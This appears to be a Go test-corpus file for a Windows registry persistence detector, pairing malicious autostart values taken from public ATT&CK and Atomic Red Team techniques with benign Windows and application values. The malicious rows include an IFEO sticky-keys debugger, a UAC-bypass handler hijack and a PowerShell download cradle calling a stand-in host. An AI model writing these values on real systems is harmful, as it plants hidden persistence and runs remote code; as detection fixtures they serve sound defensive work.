@@ -1,0 +1,69 @@
+package main
+
+// The autostart points beyond the Run family (issue 10): per location, a
+// malicious value as the public technique descriptions write it (MITRE
+// ATT&CK T1546/T1547 pages, Atomic Red Team tests of the same id) and the
+// benign values Windows and common software put there. Locations under
+// flood control (services, per-user COM, App Paths) give no row for their
+// benign items: those are stored, and TestCorpus's "nothing unexplained"
+// check proves they stay out.
+
+func addASEPCorpus(c *corpusFile) {
+	const (
+		ifeoKey = hklm + ntcvRel + `\Image File Execution Options`
+		spe     = hklm + ntcvRel + `\SilentProcessExit`
+		active  = hklm + `\Microsoft\Active Setup\Installed Components`
+		u1Cls   = u1 + `\Classes`
+		u2Cls   = u2 + `\Classes`
+		la      = `C:\Users\alice\AppData`
+	)
+	// T1546.008 / Atomic T1546.008 test 1: sticky keys through IFEO.
+	c.add(bad(ifeoKey+`\sethc.exe`, sz("Debugger", `C:\Windows\System32\cmd.exe`), "ifeo_debugger", "ifeo_sethc_cmd", "strong_location"))
+	c.add(bad(hklm+`\WOW6432Node`+ntcvRel+`\Image File Execution Options\utilman.exe`, sz("Debugger", `C:\Windows\System32\cmd.exe`), "ifeo_debugger_wow64", "ifeo_utilman_wow64", "strong_location"))
+	// Benign: Process Explorer "Replace Task Manager".
+	c.add(good(ifeoKey+`\taskmgr.exe`, sz("Debugger", `"C:\Program Files\SysinternalsSuite\procexp64.exe"`), "ifeo_debugger", "procexp_replaces_taskmgr"))
+	// T1546.012 / Atomic T1546.012 test 2: SilentProcessExit monitor.
+	c.add(bad(spe+`\notepad.exe`, sz("MonitorProcess", `C:\Windows\System32\cmd.exe /c C:\Users\Public\m.exe`), "silent_process_exit", "silent_process_exit_monitor", "strong_location"))
+	// T1546.010 / Atomic T1546.010: AppInit_DLLs.
+	c.add(bad(hklm+ntcvRel+`\Windows`, sz("AppInit_DLLs", `C:\Users\Public\T1546.010.dll`), "appinit_dlls", "appinit_dlls", "default_changed"))
+	c.add(good(hklm+`\WOW6432Node`+ntcvRel+`\Windows`, sz("AppInit_DLLs", ``), "appinit_dlls_wow64", "appinit_dlls_empty"))
+	// T1547.004: Winlogon helpers Windows leaves unset.
+	c.add(bad(mWinlogon, sz("Taskman", `C:\ProgramData\tm.exe`), "winlogon_taskman", "winlogon_taskman", "default_changed"))
+	// T1547.014 / Atomic T1547.014: Active Setup StubPath.
+	c.add(bad(active+`\{C9E9A340-D1F1-11D0-821E-444553540601}`, sz("StubPath", `C:\Users\Public\stub.exe`), "active_setup", "active_setup_stubpath", "staging_folder_image"))
+	c.add(good(active+`\{8A69D345-D564-463c-AFF1-A69D9E530F96}`, sz("StubPath", `"C:\Program Files\Google\Chrome\Application\120.0.6099.130\Installer\chrmstp.exe" --configure-user-settings --verbose-logging --system-level`), "active_setup", "chrome_active_setup"))
+	c.add(good(active+`\{89820200-ECBD-11cf-8B85-00AA005B4340}`, expandSZ("StubPath", `%SystemRoot%\system32\ie4uinit.exe -UserConfig`), "active_setup", "windows_ie4uinit"))
+	c.add(good(active+`\{22d6f312-b0f6-11d0-94ab-0080c74c7e95}`, expandSZ("StubPath", `%SystemRoot%\system32\unregmp2.exe /FirstLogon`), "active_setup", "windows_media_player"))
+	// Command Processor AutoRun (T1546 "Command Processor AutoRun").
+	c.add(bad(u1+`\Microsoft\Command Processor`, sz("AutoRun", `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/c')"`), "cmd_autorun", "cmd_autorun_cradle", "download_cradle"))
+	// T1546.007 / Atomic T1546.007: a netsh helper DLL.
+	c.add(bad(hklm+`\Microsoft\NetSh`, sz("AtomicHelper", `C:\Users\Public\NetshHelper.dll`), "netsh_helpers", "netsh_helper_dll", "default_changed"))
+	c.add(good(hklm+`\Microsoft\NetSh`, sz("ifmon", `ifmon.dll`), "netsh_helpers", "netsh_ifmon"))
+	// T1137.002 / Atomic T1137.002: Office test.
+	c.add(bad(u1+`\Microsoft\Office test\Special\Perf`, sz("", la+`\Local\Temp\perf.dll`), "office_test", "office_test_perf", "strong_location"))
+	// T1546.011 / Atomic T1546.011: a custom shim database.
+	c.add(bad(hklm+ntcvRel+`\AppCompatFlags\InstalledSDB\{4f6e7ca0-4e71-4e0c-9d1b-0f1d2a1c9b11}`, sz("DatabasePath", `C:\Windows\AppPatch\Custom\{4f6e7ca0-4e71-4e0c-9d1b-0f1d2a1c9b11}.sdb`), "shim_database", "shim_database", "strong_location"))
+	// T1548.002 fodhelper: a per-user ms-settings handler (both values).
+	c.add(bad(u2Cls+`\ms-settings\shell\open\command`, sz("", `cmd.exe /c start C:\Users\Public\x.exe`), "user_shell_command", "fodhelper_ms_settings", "strong_location"))
+	c.add(bad(u2Cls+`\ms-settings\shell\open\command`, sz("DelegateExecute", ``), "user_shell_command", "fodhelper_delegate_execute", "strong_location"))
+	// T1548.002 eventvwr: mscfile.
+	c.add(bad(u1Cls+`\mscfile\shell\open\command`, sz("", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -nop`), "user_shell_command", "eventvwr_mscfile", "strong_location"))
+	// Benign: Zoom's per-user URL handler.
+	c.add(good(u1Cls+`\zoommtg\shell\open\command`, sz("", `"`+la+`\Roaming\Zoom\bin\Zoom.exe" "--url=%1"`), "user_shell_command", "zoom_url_handler"))
+	// T1546.015 / Atomic T1546.015: a per-user InprocServer32 in %TEMP%.
+	c.add(bad(u2Cls+`\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InprocServer32`, sz("", `C:\Users\bob\AppData\Local\Temp\AtomicTest.dll`), "user_com_inproc", "com_hijack_inproc", "staging_folder_image"))
+	// Benign, flood control: OneDrive's per-user shell extension gives no row.
+	c.store(u1Cls+`\CLSID\{CB3D0F55-BC2C-4C1A-85ED-23ED75B5106B}\InprocServer32`, sz("", la+`\Local\Microsoft\OneDrive\23.246.1127.0002\amd64\FileSyncShell64.dll`))
+	// App Paths: a hijacked entry, and Chrome's (no row).
+	c.add(bad(hklm+cvRel+`\App Paths\wordpad.exe`, sz("", `C:\Users\Public\wordpad.exe`), "app_paths", "app_paths_hijack", "staging_folder_image"))
+	c.store(hklm+cvRel+`\App Paths\chrome.exe`, sz("", `"C:\Program Files\Google\Chrome\Application\chrome.exe"`))
+	// T1547.001: the user's Startup folder redirected; Windows' own.
+	c.add(bad(u2CV+`\Explorer\User Shell Folders`, expandSZ("Startup", `C:\Users\Public\Startup`), "startup_folder", "startup_folder_redirect", "default_changed"))
+	c.add(good(u1CV+`\Explorer\User Shell Folders`, expandSZ("Startup", `%USERPROFILE%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`), "startup_folder", "startup_folder_default"))
+	c.add(good(u1CV+`\Explorer\Shell Folders`, sz("Startup", `C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`), "startup_folder_shell", "shell_folders_default"))
+	// T1037.001 / Atomic T1037.001: logon script.
+	c.add(bad(`HKEY_USERS\`+sid1+`\Environment`, sz("UserInitMprLogonScript", la+`\Local\Temp\logon.bat`), "logon_script", "userinitmprlogonscript", "staging_folder_image"))
+	// T1546.002 / Atomic T1546.002: screensaver.
+	c.add(bad(`HKEY_USERS\`+sid2+`\Control Panel\Desktop`, sz("SCRNSAVE.EXE", `C:\Users\bob\AppData\Local\Temp\evil.scr`), "screensaver", "screensaver_temp", "default_changed"))
+	c.add(good(`HKEY_USERS\`+sid1+`\Control Panel\Desktop`, sz("SCRNSAVE.EXE", `C:\Windows\system32\scrnsave.scr`), "screensaver", "screensaver_default"))
+}
